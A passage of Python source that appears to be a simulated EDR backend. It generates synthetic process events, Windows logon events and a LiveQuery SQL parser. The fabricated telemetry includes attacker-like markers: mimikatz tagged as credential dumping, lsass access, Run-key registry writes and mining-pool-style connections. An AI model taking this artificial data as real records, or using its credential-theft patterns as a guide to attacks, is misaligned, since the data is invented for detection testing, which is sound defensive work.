            if parent is not None
            else f"{self.org_key}-{ep.device_id & 0xFFFFFFFF:08x}-00000000-00000000-0",
            "parent_pid": self.pid(parent) if parent is not None else 0,
            "process_guid": self.guid(i),
            "process_hash": [prog.md5, prog.sha256],
            "process_name": prog.path,
            "process_pid": [self.pid(i)],
            "process_username": [self.username(i)],
            **counts,
        }
        if full:
            doc.update(
                {
                    "device_os": ep.cloud_os,
                    "device_os_version": ep.cloud_os_version,
                    "device_policy": ep.policy_name,
                    "device_internal_ip": ep.internal_ip,
                    "device_external_ip": ep.external_ip,
                    "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
                    "device_sensor_version": ep.cloud_sensor_version,
                    "device_target_priority": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
                    "process_cmdline": [prog.cmdline],
                    "process_cmdline_length": [len(prog.cmdline)],
                    "process_company_name": prog.company,
                    "process_product_name": prog.product,
                    "process_publisher": [prog.publisher] if prog.publisher else [],
                    "process_publisher_state": [
                        "FILE_SIGNATURE_STATE_SIGNED",
                        "FILE_SIGNATURE_STATE_VERIFIED",
                    ]
                    if prog.publisher
                    else ["FILE_SIGNATURE_STATE_NOT_SIGNED"],
                    "process_reputation": prog.reputation,
                    "process_effective_reputation": prog.reputation,
                    "process_effective_reputation_source": "CLOUD",
                    "process_sha256": prog.sha256,
                    "process_start_time": iso(start),
                    "process_elevated": prog.user == "system",
                    "process_integrity_level": "SYSTEM" if prog.user == "system" else "MEDIUM",
                    "process_original_filename": prog.name,
                    "process_internal_name": prog.name.rsplit(".", 1)[0],
                    "parent_name": parent_prog.path if parent_prog else "",
                    "parent_hash": [parent_prog.md5, parent_prog.sha256] if parent_prog else [],
                    "parent_cmdline": parent_prog.cmdline if parent_prog else "",
                    "parent_reputation": parent_prog.reputation if parent_prog else "NOT_LISTED",
                    "parent_effective_reputation": parent_prog.reputation
                    if parent_prog
                    else "NOT_LISTED",
                    "event_type": ["childproc", "netconn", "filemod", "modload"],
                    "enriched": True,
                    "enriched_event_type": ["CREATE_PROCESS", "NETWORK"],
                    "legacy": True,
                    "alert_category": ["THREAT"] if prog.reputation == "KNOWN_MALWARE" else [],
                    "alert_id": [],
                    "ttp": ["MITRE_T1003_CREDENTIAL_DUMP"] if prog.name == "mimikatz.exe" else [],
                }
            )
        return doc

    def project(self, i: int, fields: Sequence[str] | None) -> dict[str, Any]:
        """A search result row: the default fields plus the extra ones asked for."""
        wanted = [f for f in (fields or ["*"]) if f != "*"]
        full = any(f not in PROCESS_DEFAULT_FIELDS for f in wanted)
        doc = self.doc(i, full=full)
        if not full:
            return doc
        keep = set(PROCESS_DEFAULT_FIELDS) | set(wanted)
        return {k: v for k, v in doc.items() if k in keep}

    # -- table -----------------------------------------------------------------------------------
    def _table(self) -> Table:
        def prog_col(attr: str) -> Categorical[int]:
            return Categorical(lambda i: self._arrays()[0][i], [getattr(p, attr) for p in _PROGS])

        def dev_col(fn: Callable[[Endpoint], Any]) -> Categorical[int]:
            return Categorical(
                lambda i: self._arrays()[1][i],
                _LazyValues(lambda: [fn(ep) for ep in self.endpoints]),
            )

        def count_col(name: str) -> Getter:
            return lambda i: self.counts(i)[name]

        cols: dict[str, Column] = {
            "process_name": prog_col("path"),
            "process_original_filename": prog_col("name"),
            "process_sha256": prog_col("sha256"),
            "process_hash": Categorical(
                lambda i: self._arrays()[0][i], [[p.md5, p.sha256] for p in _PROGS]
            ),
            "process_cmdline": prog_col("cmdline"),
            "process_reputation": prog_col("reputation"),
            "process_effective_reputation": prog_col("reputation"),
            "process_company_name": prog_col("company"),
            "process_product_name": prog_col("product"),
            "process_publisher": prog_col("publisher"),
            "device_name": dev_col(lambda ep: ep.hostname.lower()),
            "device_id": dev_col(lambda ep: ep.device_id),
            "device_os": dev_col(lambda ep: ep.cloud_os),
            "device_policy": dev_col(lambda ep: ep.policy_name),
            "device_policy_id": dev_col(lambda ep: ep.policy_id),
            "device_internal_ip": dev_col(lambda ep: ep.internal_ip),
            "device_external_ip": dev_col(lambda ep: ep.external_ip),
            "device_group_id": lambda i: 0,
            "org_id": lambda i: self.org_key,
            "process_guid": self.guid,
            "process_pid": lambda i: [self.pid(i)],
            "process_username": lambda i: [self.username(i)],
            "parent_guid": lambda i: (
                self.guid(p) if (p := self.parent_index(i)) is not None else None
            ),
            "parent_pid": lambda i: self.pid(p) if (p := self.parent_index(i)) is not None else 0,
            "parent_name": lambda i: (
                self.prog(p).path if (p := self.parent_index(i)) is not None else None
            ),
            "process_start_time": self.start,
            "device_timestamp": self.start,
            "backend_timestamp": lambda i: self.start(i) + 95,
            "ingress_time": lambda i: int((self.start(i) + 60) * 1000),
            **{
                name: count_col(name)
                for name in (
                    "netconn_count",
                    "filemod_count",
                    "regmod_count",
                    "modload_count",
                    "crossproc_count",
                    "childproc_count",
                    "scriptload_count",
                )
            },
        }
        schema: dict[str, FieldType] = dict.fromkeys(cols, "keyword")
        schema.update(
            {
                "process_name": "text",
                "parent_name": "text",
                "process_cmdline": "text",
                "device_id": "number",
                "device_policy_id": "number",
                "device_group_id": "number",
                "process_pid": "number",
                "parent_pid": "number",
                "device_internal_ip": "ip",
                "device_external_ip": "ip",
                "process_start_time": "date",
                "device_timestamp": "date",
                "backend_timestamp": "date",
                "ingress_time": "number",
            }
        )
        schema.update({f"{t}_count": "number" for t in EVENT_TYPES})
        return Table(
            count=lambda: self.count,
            columns=cols,
            schema=schema,
            default_fields=("process_name", "process_cmdline", "device_name", "process_username"),
            time_field="device_timestamp",
            time_criteria=frozenset(
                {"process_start_time", "device_timestamp", "backend_timestamp"}
            ),
        )

    # -- events ------------------------------------------------------------------------------------
    def events(self, i: int) -> list[dict[str, Any]]:
        """Every event of process ``i`` (built on demand, in time order)."""
        ep, prog = self.endpoint(i), self.prog(i)
        start = self.start(i)
        counts = self.counts(i)
        children = self.children(i)
        windows = ep.os_family == "windows"
        out: list[dict[str, Any]] = []
        for kind in EVENT_TYPES:
            n = counts[f"{kind}_count"]
            for k in range(n):
                h = mix(self.seed, i * 131 + k, 8 + EVENT_TYPES.index(kind))
                t = start + 1 + (h % 3600) / 10
                event: dict[str, Any] = {
                    "event_type": kind,
                    "event_id": f"{stable('evt', self.seed, i, kind, k):032x}",
                    "event_timestamp": iso(t),
                    "backend_timestamp": iso(t + 90),
                    "device_timestamp": iso(t),
                    "device_id": ep.device_id,
                    "device_name": ep.hostname.lower(),
                    "process_guid": self.guid(i),
                    "process_pid": self.pid(i),
                    "process_name": prog.path,
                }
                if kind == "netconn":
                    ip = (
                        f"203.0.113.{h % 250 + 1}"
                        if h % 3
                        else f"10.{h % 200}.{(h >> 8) % 250}.{(h >> 16) % 250 + 1}"
                    )
                    port = (443, 80, 53, 445, 3389, 8080, 3333)[h % 7]
                    event.update(
                        {
                            "netconn_remote_ipv4": ip,
                            "netconn_remote_port": port,
                            "netconn_local_ipv4": ep.internal_ip,
                            "netconn_local_port": 49_152 + h % 16_000,
                            "netconn_protocol": "PROTO_UDP" if port == 53 else "PROTO_TCP",
                            "netconn_action": "ACTION_CONNECTION_ESTABLISHED",
                            "netconn_domain": (
                                "api.example.com",
                                "cdn.example.net",
                                "pool.example.net",
                                "",
                            )[h % 4],
                            "netconn_inbound": False,
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {ip}:{port}",
                        }
                    )
                elif kind == "filemod":
                    folder = "c:\\users\\public\\" if windows else "/tmp/"
                    name = f"{folder}{('report', 'cache', 'update', 'data')[h % 4]}{k}.{('tmp', 'dat', 'exe', 'log')[(h >> 4) % 4]}"
                    event.update(
                        {
                            "filemod_name": name,
                            "filemod_action": ["ACTION_FILE_CREATE", "ACTION_FILE_LAST_WRITE"][
                                h % 2
                            ],
                            "filemod_hash": [
                                hashlib.md5(name.encode(), usedforsecurity=False).hexdigest()
                            ],
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {name}",
                        }
                    )
                elif kind == "regmod":
                    key = f"\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run\\entry{k}"
                    event.update(
                        {
                            "regmod_name": key,
                            "regmod_action": "ACTION_WRITE_VALUE",
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {key}",
                        }
                    )
                elif kind == "modload":
                    lib = (
                        (
                            _S32
                            + (
                                "ntdll.dll",
                                "kernel32.dll",
                                "user32.dll",
                                "ws2_32.dll",
                                "advapi32.dll",
                                "crypt32.dll",
                            )[h % 6]
                        )
                        if windows
                        else f"/usr/lib/x86_64-linux-gnu/{('libc.so.6', 'libssl.so.3', 'libz.so.1')[h % 3]}"
                    )
                    event.update(
                        {
                            "modload_name": lib,
                            "modload_md5": hashlib.md5(
                                lib.encode(), usedforsecurity=False
                            ).hexdigest(),
                            "modload_sha256": hashlib.sha256(lib.encode()).hexdigest(),
                            "modload_effective_reputation": "TRUSTED_WHITE_LIST",
                            "modload_publisher": "Microsoft Windows" if windows else "",
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {lib}",
                        }
                    )
                elif kind == "crossproc":
                    target = _S32 + "lsass.exe" if windows else "/usr/sbin/sshd"
                    event.update(
                        {
                            "crossproc_name": target,
                            "crossproc_action": "ACTION_PROCESS_API_CALL"
                            if h % 2
                            else "ACTION_OPEN_PROCESS_HANDLE",
                            "crossproc_target": True,
                            "crossproc_process_guid": self.guid(i - i % FAMILY),
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {target}",
                        }
                    )
                elif kind == "childproc":
                    child = children[k]
                    child_prog = self.prog(child)
                    event.update(
                        {
                            "childproc_guid": self.guid(child),
                            "childproc_pid": self.pid(child),
                            "childproc_name": child_prog.path,
                            "childproc_cmdline": child_prog.cmdline,
                            "childproc_hash": [child_prog.md5, child_prog.sha256],
                            "childproc_username": self.username(child),
                            "event_timestamp": iso(self.start(child)),
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {child_prog.name}",
                        }
                    )
                elif kind == "scriptload":
                    script = f"c:\\scripts\\task{k}.ps1"
                    event.update(
                        {
                            "scriptload_name": script,
                            "scriptload_content": "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {script}",
                        }
                    )
                out.append(event)
        out.sort(key=lambda e: (e["event_timestamp"], e["event_id"]))
        return out


class _LazyValues(Sequence[Any]):
    """A value table computed on first use (the endpoints of a Categorical device column)."""

    def __init__(self, build: Callable[[], list[Any]]) -> None:
        self._build = build
        self._values: list[Any] | None = None

    def _get(self) -> list[Any]:
        if self._values is None:
            self._values = self._build()
        return self._values

    def __len__(self) -> int:
        return len(self._get())

    def __getitem__(self, index: Any) -> Any:
        return self._get()[index]

    def __iter__(self) -> Any:
        return iter(self._get())


EVENT_SCHEMA: dict[str, FieldType] = {
    "event_type": "keyword",
    "process_name": "text",
    "netconn_remote_ipv4": "ip",
    "netconn_local_ipv4": "ip",
    "netconn_remote_port": "number",
    "netconn_local_port": "number",
    "netconn_protocol": "keyword",
    "netconn_domain": "keyword",
    "filemod_name": "text",
    "regmod_name": "text",
    "modload_name": "text",
    "crossproc_name": "text",
    "childproc_name": "text",
    "childproc_cmdline": "text",
    "scriptload_name": "keyword",
    "event_description": "text",
    "event_timestamp": "date",
}


def event_table(events: list[dict[str, Any]]) -> Table:
    """A Table over one process's materialised events."""
    names = sorted({k for e in events for k in e} | set(EVENT_SCHEMA))
    cols: dict[str, Column] = {}
    for name in names:
        cols[name] = (lambda n: lambda i: events[i].get(n))(name)
    cols["event_timestamp"] = lambda i: epoch_of(events[i]["event_timestamp"])
    return Table(
        count=lambda: len(events),
        columns=cols,
        schema=EVENT_SCHEMA,
        default_fields=("event_description",),
        time_field="event_timestamp",
        time_criteria=frozenset({"event_timestamp", "backend_timestamp", "device_timestamp"}),
    )


# --------------------------------------------------------------------------------------------
# Auth events (seed 004)
# --------------------------------------------------------------------------------------------

AUTH_SEARCH_FIELDS = (
    "auth_domain_name", "auth_event_action", "auth_remote_device", "auth_remote_port",
    "auth_username", "backend_timestamp", "childproc_count", "crossproc_count", "device_group_id",
    "device_id", "device_name", "device_policy_id", "device_timestamp", "event_id",
    "filemod_count", "ingress_time", "modload_count", "netconn_count", "org_id", "parent_guid",
    "parent_pid", "process_guid", "process_hash", "process_name", "process_pid",
    "process_username", "regmod_count", "scriptload_count", "windows_event_id",
)  # fmt: skip
_AUTH_EVENTS: tuple[tuple[int, str, int], ...] = (
    # (windows_event_id, auth_event_action, weight)
    (4624, "LOGON_SUCCESS", 40),
    (4634, "LOGOFF_SUCCESS", 15),
    (4672, "PRIVILEGES_GRANTED", 15),
    (4625, "LOGON_FAILED", 8),
    (4648, "LOGON_SUCCESS", 6),
    (4647, "LOGOFF_INITIATED", 5),
    (4776, "LOGON_DISCOVERED", 8),
    (4740, "ACCOUNT_LOCKED", 2),
    (4777, "LOGON_FAILED", 1),
)
_LOGON_TYPES = ((2, 20), (3, 35), (5, 25), (7, 5), (10, 8), (11, 7))
_PRIVILEGES = (
    "SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege", "SeTcbPrivilege",
    "SeSecurityPrivilege", "SeTakeOwnershipPrivilege", "SeImpersonatePrivilege",
    "SeAssignPrimaryTokenPrivilege", "SeLoadDriverPrivilege", "SeSystemEnvironmentPrivilege",
)  # fmt: skip
_FAILURE_STATUS = ("0xC000006DL", "0xC000006AL", "0xC0000064L", "0xC0000234L", "0xC0000072L")

AUTH_DESCRIPTIONS: dict[str, Any] = {
    "event": {
        "4624": "An account was successfully logged on",
        "4625": "An account failed to log on",
        "4634": "An account was logged off",
        "4647": "User initiated logoff",
        "4648": "A logon was attempted using explicit credentials",
        "4672": "Special privileges assigned to new logon",
        "4740": "A user account was locked out",
        "4776": "The domain controller attempted to validate the credentials for an account",
        "4777": "The domain controller failed to validate credentials for an account",
        "6272": "Network Policy Server granted access to a user",
    },
    "status": [
        {"status_id": "0xC0000064L", "message_code": "STATUS_NO_SUCH_USER", "message_description": "The specified account does not exist."},
        {"status_id": "0xC000006AL", "message_code": "STATUS_WRONG_PASSWORD", "message_description": "When trying to update a password, this return status indicates that the value provided as the current password is not correct."},
        {"status_id": "0xC000006DL", "message_code": "STATUS_LOGON_FAILURE", "message_description": "The attempted logon is invalid. This is either due to a bad username or authentication information."},
        {"status_id": "0xC0000072L", "message_code": "STATUS_ACCOUNT_DISABLED", "message_description": "The referenced account is currently disabled and cannot be logged on to."},
        {"status_id": "0xC0000106L", "message_code": "STATUS_NAME_TOO_LONG", "message_description": "A specified name string is too long for its intended use."},
        {"status_id": "0xC000013DL", "message_code": "STATUS_REMOTE_RESOURCES", "message_description": "{Insufficient Resources on Remote Computer} The remote computer has insufficient resources to complete the network request. For instance, there may not be enough memory available on the remote computer to carry out the request at this time."},
        {"status_id": "0xC0000234L", "message_code": "STATUS_ACCOUNT_LOCKED_OUT", "message_description": "The user account has been automatically locked because too many invalid logon attempts or password change attempts have been requested."},
    ],
    "logon_type": {
        "2": {"title": "Interactive", "description": "A user logged on to this computer."},
        "3": {"title": "Network", "description": "A user or computer logged on to this computer from the network."},
        "4": {"title": "Batch", "description": "Batch logon type is used by batch servers, where processes may be executing on behalf of a user without their direct intervention."},
        "5": {"title": "Service", "description": "A service was started by the Service Control Manager."},
        "7": {"title": "Unlock", "description": "This workstation was unlocked."},
        "8": {"title": "NetworkCleartext", "description": "A user logged on to this computer from the network. The user's password was passed to the authentication package in its unhashed form."},
        "9": {"title": "NewCredentials", "description": "A caller cloned its current token and specified new credentials for outbound connections."},
        "10": {"title": "RemoteInteractive", "description": "A user logged on to this computer remotely using Terminal Services or Remote Desktop."},
        "11": {"title": "CachedInteractive", "description": "A user logged on to this computer with network credentials that were stored locally on the computer."},
    },
    "auth_event_action": {
        "ACCOUNT_LOCKED": "A user account was locked out",
        "LOGOFF_INITIATED": "User initiated logoff",
        "LOGOFF_SUCCESS": "An account was logged off",
        "LOGON_DISCOVERED": "Logon session detected",
        "LOGON_FAILED": "An account failed to log on",
        "LOGON_SUCCESS": "An account was successfully logged on",
        "PRIVILEGES_GRANTED": "Special privileges assigned to new logon",
    },
}  # fmt: skip


@dataclass(frozen=True)
class _AuthCore:
    device: int
    event: int  # index into _AUTH_EVENTS
    user: str
    domain: str
    user_sid: str
    logon_type: int
    remote: str
    remote_ip: str
    remote_port: int
    process: int  # 0 lsass, 1 winlogon, 2 svchost
    t: float
    h: int


_AUTH_PROCS = (
    ("c:\\windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", "Local Security Authority Process", "wininit.exe", "c:\\windows\\system32\\wininit.exe"),
    ("c:\\windows\\system32\\winlogon.exe", "winlogon.exe", "Windows Logon Application", "smss.exe", "c:\\windows\\system32\\smss.exe"),
    ("c:\\windows\\system32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "Host Process for Windows Services", "services.exe", "c:\\windows\\system32\\services.exe"),
)  # fmt: skip


class AuthEventStore:
    """Windows authentication events spread over the Windows devices."""

    def __init__(
        self,
        endpoints: EndpointPopulation,
        *,
        seed: int,
        count: int,
        org_key: str,
        epoch: float,
        history_days: int,
    ) -> None:
        self.endpoints = endpoints
        self.seed = seed
        self.org_key = org_key
        self.epoch = epoch
        self.history = history_days * 86_400
        self._windows = [ep.index for ep in endpoints if ep.os_family == "windows"]
        self.count = count if self._windows else 0
        self._core: list[_AuthCore] | None = None
        self._ids: dict[str, int] | None = None
        self.table = self._table()

    def core(self, i: int) -> _AuthCore:
        if self._core is None:
            self._core = [self._make(j) for j in range(self.count)]
        return self._core[i]

    def _make(self, j: int) -> _AuthCore:
        h = mix(self.seed, j, 41)
        device = self._windows[h % len(self._windows)]
        ep = self.endpoints[device]
        weights = [(str(n), w) for n, (_, _, w) in enumerate(_AUTH_EVENTS)]
        event = int(_weighted(weights, h >> 8))
        event_id = _AUTH_EVENTS[event][0]
        pick = (h >> 16) % 100
        local = ep.hostname.upper()
        if event_id in (4672,) or pick < 30:
            user, domain, sid = "SYSTEM", "NT AUTHORITY", "S-1-5-18"
            if _AUTH_EVENTS[event][1] in ("LOGON_FAILED", "ACCOUNT_LOCKED"):
                event = 0  # the system account does not fail its own logons
        elif pick < 70:
            user, domain = ep.username.rsplit("\\", 1)[-1], ep.domain or local
            sid = f"{ep.computer_sid}-{1100 + ep.index % 900}"
        elif pick < 80:
            user, domain, sid = "Administrator", local, f"{ep.computer_sid}-500"
        elif pick < 90:
            user, domain = ("svc_backup", "svc_sql", "svc_deploy")[h % 3], "ACME"
            sid = f"S-1-5-21-3623811015-3361044348-30300820-{2000 + h % 3}"
        else:
            user, domain = ("guest", "test", "admin", "scanner")[h % 4], local
            sid = "S-1-0-0"
        logon_type = int(_weighted([(str(t), w) for t, w in _LOGON_TYPES], h >> 24))
        if user == "SYSTEM":
            logon_type = 5
        network = logon_type in (3, 10)
        src = self.endpoints[
            (device + 1 + (h >> 32) % max(len(self.endpoints) - 1, 1)) % len(self.endpoints)
        ]
        remote = src.hostname.upper() if network else "-"
        remote_ip = src.internal_ip if network else "-"
        remote_port = (49_152 + (h >> 40) % 16_000) if network else 0
        process = (
            1 if logon_type in (2, 7, 11) else (2 if logon_type == 5 and user != "SYSTEM" else 0)
        )
        t = self.epoch - 60 - (h >> 20) % max(self.history - 120, 1)
        return _AuthCore(
            device,
            event,
            user,
            domain,
            sid,
            logon_type,
            remote,
            remote_ip,
            remote_port,
            process,
            t,
            h,
        )

    def event_id(self, i: int) -> str:
        return _uuid("auth", self.seed, i).upper()

    def index_of(self, event_id: str) -> int | None:
        if self._ids is None:
            self._ids = {self.event_id(i): i for i in range(self.count)}
        return self._ids.get(str(event_id).upper())

    def _proc_guid(self, i: int, parent: bool = False) -> str:
        c = self.core(i)
        ep = self.endpoints[c.device]
        pid = 608 if parent else (776 + 4 * c.process) + 4 * (c.h % 50)
        boot = int((self.epoch - ep.uptime + 11_644_473_600) * 10_000_000)
        return f"{self.org_key}-{ep.device_id & 0xFFFFFFFF:08x}-{pid:08x}-00000000-{boot + (0 if parent else 30_000_000):x}"

    def doc(self, i: int, *, full: bool = False) -> dict[str, Any]:
        c = self.core(i)
        ep = self.endpoints[c.device]
        event_id, action, _ = _AUTH_EVENTS[c.event]
        path, cmdline, description, parent_name, parent_path = _AUTH_PROCS[c.process]
        pid = 776 + 4 * c.process + 4 * (c.h % 50)
        md5 = hashlib.md5(path.encode(), usedforsecurity=False).hexdigest()
        sha = hashlib.sha256(path.encode()).hexdigest()
        counts = (c.h >> 3) % 60
        doc: dict[str, Any] = {
            "auth_domain_name": c.domain,
            "auth_event_action": action,
            "auth_remote_device": c.remote,
            "auth_remote_port": c.remote_port,
            "auth_username": c.user,
            "backend_timestamp": iso(c.t + 60),
            "childproc_count": 0,
            "crossproc_count": counts,
            "device_group_id": 0,
            "device_id": ep.device_id,
            "device_name": ep.hostname.lower(),
            "device_policy_id": ep.policy_id,
            "device_timestamp": iso(c.t),
            "event_id": self.event_id(i),
            "filemod_count": counts % 7,
            "ingress_time": int((c.t + 75) * 1000),
            "modload_count": counts % 3,
            "netconn_count": counts % 40,
            "org_id": self.org_key,
            "parent_guid": self._proc_guid(i, parent=True),
            "parent_pid": 608,
            "process_guid": self._proc_guid(i),
            "process_hash": [md5, sha],
            "process_name": path,
            "process_pid": [pid],
            "process_username": ["NT AUTHORITY\\SYSTEM"],
            "regmod_count": counts % 13,
            "scriptload_count": 0,
            "windows_event_id": event_id,
        }
        if not full:
            return doc
        failed = action in ("LOGON_FAILED", "ACCOUNT_LOCKED")
        privileged = event_id == 4672 or c.user in ("SYSTEM", "Administrator")
        doc.update(
            {
                "auth_cleartext_credentials_logon": c.logon_type == 8,
                "auth_daemon_logon": c.logon_type == 5,
                "auth_elevated_token_logon": privileged,
                "auth_failed_logon_count": (c.h % 5 + 1) if failed else 0,
                "auth_failure_reason": _FAILURE_STATUS[c.h % len(_FAILURE_STATUS)]
                if failed
                else None,
                "auth_impersonation_level": "IMPERSONATION_LOCAL_ONLY"
                if c.logon_type == 5
                else "IMPERSONATION_INVALID",
                "auth_interactive_logon": c.logon_type in (2, 7, 10, 11),
                "auth_key_length": 128 if c.logon_type == 3 else 0,
                "auth_logon_id": f"00000000-{c.h % 0xFFFFFF:08X}",
                "auth_logon_type": c.logon_type,
                "auth_package": "Kerberos"
                if c.logon_type == 3 and c.domain == "ACME"
                else ("NTLM" if c.logon_type == 3 else "Negotiate"),
                "auth_privileges": list(_PRIVILEGES[: 3 + c.h % 7]) if privileged else [],
                "auth_remote_ipv4": c.remote_ip,
                "auth_remote_logon": c.logon_type in (3, 10),
                "auth_restricted_admin_logon": False,
                "auth_user_id": c.user_sid,
                "auth_virtual_account_logon": False,
                "device_external_ip": ep.external_ip,
                "device_installed_by": f"{ep.domain or ep.hostname}\\Administrator",
                "device_internal_ip": ep.internal_ip,
                "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
                "device_os": "WINDOWS",
                "device_os_version": ep.cloud_os_version,
                "device_policy": ep.policy_name,
                "device_sensor_version": ep.cloud_sensor_version,
                "device_target_priority": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
                "document_guid": f"{stable('doc', self.seed, i):022x}"[:22],
                "parent_cmdline": parent_name,
                "parent_cmdline_length": len(parent_name),
                "parent_effective_reputation": "TRUSTED_WHITE_LIST",
                "parent_effective_reputation_source": "IGNORE",
                "parent_hash": [
                    hashlib.md5(parent_path.encode(), usedforsecurity=False).hexdigest(),
                    hashlib.sha256(parent_path.encode()).hexdigest(),
                ],
                "parent_name": parent_path,
                "parent_publisher": ["Microsoft Windows Publisher"],
                "parent_publisher_state": [
                    "FILE_SIGNATURE_STATE_VERIFIED",
                    "FILE_SIGNATURE_STATE_OS",
                    "FILE_SIGNATURE_STATE_TRUSTED",
                    "FILE_SIGNATURE_STATE_SIGNED",
                ],
                "parent_reputation": "TRUSTED_WHITE_LIST",
                "process_cmdline": [cmdline],
                "process_cmdline_length": [len(cmdline)],
                "process_company_name": "Microsoft Corporation",
                "process_effective_reputation": "TRUSTED_WHITE_LIST",
                "process_effective_reputation_source": "IGNORE",
                "process_elevated": True,
                "process_file_description": description,
                "process_integrity_level": "SYSTEM",
                "process_internal_name": path.rsplit("\\", 1)[-1],
                "process_original_filename": path.rsplit("\\", 1)[-1],
                "process_privileges": list(_PRIVILEGES[:6]),
                "process_product_name": "Microsoft\u00ae Windows\u00ae Operating System",
                "process_product_version": "10.0.19041.906",
                "process_publisher": ["Microsoft Windows Publisher"],
                "process_publisher_state": [
                    "FILE_SIGNATURE_STATE_VERIFIED",
                    "FILE_SIGNATURE_STATE_OS",
                    "FILE_SIGNATURE_STATE_TRUSTED",
                    "FILE_SIGNATURE_STATE_SIGNED",
                ],
                "process_reputation": "TRUSTED_WHITE_LIST",
                "process_sha256": sha,
                "process_start_time": iso(self.epoch - ep.uptime + 3),
            }
        )
        return doc

    def project(self, i: int, fields: Sequence[str] | None) -> dict[str, Any]:
        wanted = [f for f in (fields or ["*"]) if f != "*"]
        if not wanted:
            return self.doc(i)
        full = self.doc(i, full=True)
        keep = set(AUTH_SEARCH_FIELDS) | set(wanted)
        return {k: v for k, v in full.items() if k in keep}

    def _table(self) -> Table:
        def c(attr: str) -> Getter:
            return lambda i: getattr(self.core(i), attr)

        def full(name: str) -> Getter:
            return lambda i: self.doc(i, full=True).get(name)

        eps = self.endpoints
        cols: dict[str, Column] = {
            "auth_username": c("user"),
            "auth_domain_name": c("domain"),
            "auth_user_id": c("user_sid"),
            "auth_logon_type": c("logon_type"),
            "auth_remote_device": c("remote"),
            "auth_remote_ipv4": c("remote_ip"),
            "auth_remote_port": c("remote_port"),
            "auth_event_action": lambda i: _AUTH_EVENTS[self.core(i).event][1],
            "windows_event_id": lambda i: _AUTH_EVENTS[self.core(i).event][0],
            "auth_interactive_logon": lambda i: self.core(i).logon_type in (2, 7, 10, 11),
            "auth_remote_logon": lambda i: self.core(i).logon_type in (3, 10),
            "auth_daemon_logon": lambda i: self.core(i).logon_type == 5,
            "device_id": lambda i: eps[self.core(i).device].device_id,
            "device_name": lambda i: eps[self.core(i).device].hostname.lower(),
            "device_policy_id": lambda i: eps[self.core(i).device].policy_id,
            "device_policy": lambda i: eps[self.core(i).device].policy_name,
            "device_os_version": lambda i: eps[self.core(i).device].cloud_os_version,
            "device_group_id": lambda i: 0,
            "device_timestamp": c("t"),
            "backend_timestamp": lambda i: self.core(i).t + 60,
            "ingress_time": lambda i: int((self.core(i).t + 75) * 1000),
            "event_id": self.event_id,
            "org_id": lambda i: self.org_key,
            "process_name": lambda i: _AUTH_PROCS[self.core(i).process][0],
            "parent_name": lambda i: _AUTH_PROCS[self.core(i).process][4],
            "process_guid": self._proc_guid,
            "parent_guid": lambda i: self._proc_guid(i, parent=True),
            "parent_pid": lambda i: 608,
            "process_pid": lambda i: [776 + 4 * self.core(i).process + 4 * (self.core(i).h % 50)],
            "process_username": lambda i: ["NT AUTHORITY\\SYSTEM"],
            "auth_privileges": full("auth_privileges"),
            "auth_logon_id": full("auth_logon_id"),
            "auth_package": full("auth_package"),
            "auth_failed_logon_count": full("auth_failed_logon_count"),
            "auth_elevated_token_logon": full("auth_elevated_token_logon"),
            "process_hash": full("process_hash"),
        }
        for name in (
            "childproc_count",
            "crossproc_count",
            "filemod_count",
            "modload_count",
            "netconn_count",
            "regmod_count",
            "scriptload_count",
        ):
            cols[name] = (lambda n: lambda i: self.doc(i)[n])(name)
        schema: dict[str, FieldType] = dict.fromkeys(cols, "keyword")
        schema.update(
            {
                "process_name": "text",
                "parent_name": "text",
                "auth_logon_type": "number",
                "auth_remote_port": "number",
                "windows_event_id": "number",
                "device_id": "number",
                "device_policy_id": "number",
                "device_group_id": "number",
                "parent_pid": "number",
                "process_pid": "number",
                "auth_failed_logon_count": "number",
                "ingress_time": "number",
                "auth_interactive_logon": "bool",
                "auth_remote_logon": "bool",
                "auth_daemon_logon": "bool",
                "auth_elevated_token_logon": "bool",
                "auth_remote_ipv4": "ip",
                "device_timestamp": "date",
                "backend_timestamp": "date",
            }
        )
        return Table(
            count=lambda: self.count,
            columns=cols,
            schema=schema,
            default_fields=("auth_username", "device_name", "process_name", "auth_domain_name"),
            time_field="device_timestamp",
            time_criteria=frozenset({"device_timestamp", "backend_timestamp"}),
        )

    def fields(self) -> list[str]:
        """Every field a detail document has (for suggestions)."""
        return sorted(self.doc(0, full=True)) if self.count else list(AUTH_SEARCH_FIELDS)


# --------------------------------------------------------------------------------------------
# LiveQuery (Audit & Remediation)
# --------------------------------------------------------------------------------------------


class SqlError(ValueError):
    """What osquery reports for a query it cannot run (becomes a device ``error`` status)."""


_SQL = re.compile(
    r"^\s*select\s+(?P<cols>.+?)\s+from\s+(?P<table>[A-Za-z_][A-Za-z0-9_]*)"
    r"(?:\s+where\s+(?P<where>.+?))?(?:\s+limit\s+(?P<limit>\d+))?\s*;?\s*$",
    re.IGNORECASE | re.DOTALL,
)
_COND = re.compile(
    r"^\s*(?P<col>[A-Za-z_][A-Za-z0-9_]*)\s*(?P<op>=|==|!=|<>|>=|<=|>|<|\blike\b)\s*"
    r"(?P<val>'(?:[^']|'')*'|\"[^\"]*\"|-?\d+(?:\.\d+)?)\s*$",
    re.IGNORECASE,
)


def _sql_condition(text: str) -> Callable[[Mapping[str, Any]], bool]:
    """A WHERE clause of ``col op value`` terms joined by AND/OR (AND binds tighter)."""
    ors = re.split(r"\s+or\s+", text.strip(), flags=re.IGNORECASE)
    groups: list[list[Callable[[Mapping[str, Any]], bool]]] = []
    for part in ors:
        terms = []
        for cond in re.split(r"\s+and\s+", part, flags=re.IGNORECASE):
            match = _COND.match(cond.strip().strip("()"))
            if match is None:
                raise SqlError(
